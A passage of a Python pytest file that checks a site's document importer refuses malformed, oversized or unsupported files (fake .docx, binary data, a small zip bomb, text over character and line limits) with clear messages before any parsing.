        tiny_zip(notice__readme="a text file in a zip"),
        "notice.docx",
        "This is not a Word document the site can read",
        id="zip-named-docx",
    ),
    pytest.param(
        b"PK\x03\x04" + b"this is not really a zip archive" * 4,
        "notice.docx",
        "This is not a Word document the site can read",
        id="corrupt-docx",
    ),
    pytest.param(
        b"Just some words saved with the wrong name.",
        "notice.docx",
        "This is not a Word document the site can read",
        id="text-named-docx",
    ),
    pytest.param(
        tiny_zip(**{"word__document.xml": "<w:document>not closed"}),
        "notice.docx",
        "This is not a Word document the site can read",
        id="docx-with-broken-xml",
    ),
    pytest.param(
        tiny_zip(**{"xl__workbook.xml": "<workbook/>"}),
        "notice.xlsx",
        "Excel spreadsheet",
        id="xlsx",
    ),
    pytest.param(
        tiny_zip(mimetype="application/vnd.oasis.opendocument.text", **{"content.xml": "<a/>"}),
        "notice.odt",
        "OpenDocument",
        id="odt",
    ),
    pytest.param(
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(64),
        "notice.doc",
        "older Word (.doc)",
        id="old-word",
    ),
    pytest.param(b"{\\rtf1\\ansi Notice}", "notice.rtf", "Rich Text (.rtf)", id="rtf"),
    pytest.param(
        bytes(range(256)) * 8,
        "notice.txt",
        "This file holds binary data, not text",
        id="binary-with-nul-bytes",
    ),
    pytest.param(
        b"Notice text\x00\x00\x00with NUL bytes in the middle",
        "mystery",
        "binary data",
        id="nul-bytes-no-extension",
    ),
]


@pytest.mark.parametrize(("data", "filename", "message"), REFUSED_FILES)
def test_files_that_are_not_readable_notices_are_refused_with_a_clear_message(
    data, filename, message
):
    assert message in refusal(data, filename)


def test_a_word_document_with_nothing_in_it_is_refused():
    assert "no text" in refusal(make_docx([word_paragraph("")]), "notice.docx")


def test_a_web_page_with_only_chrome_is_refused():
    page = "<html><body><nav><a href='/'>Home</a></nav><main></main></body></html>"
    assert "no text the site can import" in refusal(page.encode(), "notice.html")


def test_a_word_file_that_unpacks_to_a_huge_size_is_refused_before_it_is_read(monkeypatch):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * (49 * 1024 * 1024))
    data = buffer.getvalue()
    assert len(data) < MAX_IMPORT_BYTES

    def must_not_run(*args, **kwargs):
        raise AssertionError("mammoth was asked to read a zip bomb")

    monkeypatch.setattr(word_reader.mammoth, "convert_to_html", must_not_run)
    assert "The Word document unpacks to 49 MB; the limit is 5 MB" in refusal(data, "notice.docx")


def test_a_file_over_the_limit_is_refused_before_any_parsing(monkeypatch):
    def must_not_run(*args, **kwargs):
        raise AssertionError("a file over the limit was parsed")

    for step in ("_decode", "_refuse_binary", "_read_word", "_plain_text_to_markdown"):
        monkeypatch.setattr(reading, step, must_not_run)
    monkeypatch.setattr(html_reader, "_parse", must_not_run)
    data = b"# Notice\n\n" + b"x" * (MAX_IMPORT_BYTES + 1 - 10)
    assert len(data) == MAX_IMPORT_BYTES + 1

    message = refusal(data, "notice.md")
    assert message.startswith("The file is too large to import: it is just over 5 MB")
    assert "the limit is 5 MB" in message


def test_the_size_refusal_states_the_file_size_in_megabytes():
    data = b"a" * (MAX_IMPORT_BYTES * 3)
    assert "it is 15.0 MB, and the limit is 5 MB" in refusal(data, "notice.txt")


def test_text_exactly_at_the_text_limit_is_read_and_one_character_more_is_refused():
    most = limits.limit("IMPORT_MAX_TEXT_CHARACTERS")
    data = b"Notice\n\n" + b"word " * ((most - 9) // 5) + b"\n"
    data += b"." * (most - len(data))
    assert len(data) == most
    assert read_document(data, "notice.txt").markdown.startswith("## Notice\n\nword word")
    message = refusal(data + b".", "notice.txt")
    assert message.startswith(
        "The file's text is 1,000,001 characters long; the limit is 1,000,000."
    )


def test_a_file_at_the_upload_limit_is_refused_by_the_text_limit_before_parsing(monkeypatch):
    def must_not_run(*args, **kwargs):
        raise AssertionError("text over the limit was parsed")

    monkeypatch.setattr(reading, "_plain_text_to_markdown", must_not_run)
    data = b"Notice\n\n" + b"word " * ((MAX_IMPORT_BYTES - 9) // 5)
    assert "characters long; the limit is 1,000,000" in refusal(data, "notice.txt")


def test_text_with_too_many_lines_is_refused(monkeypatch):
    def must_not_run(*args, **kwargs):
        raise AssertionError("text over the limit was parsed")

    monkeypatch.setattr(reading, "_plain_text_to_markdown", must_not_run)
    assert "has 30,001 lines; the limit is 20,000" in refusal(b"a\n" * 30_000, "notice.txt")


def test_refusals_are_value_errors_for_callers_that_catch_those():
    assert issubclass(UnreadableDocument, ValueError)
    assert MAX_IMPORT_BYTES == 5 * 1024 * 1024
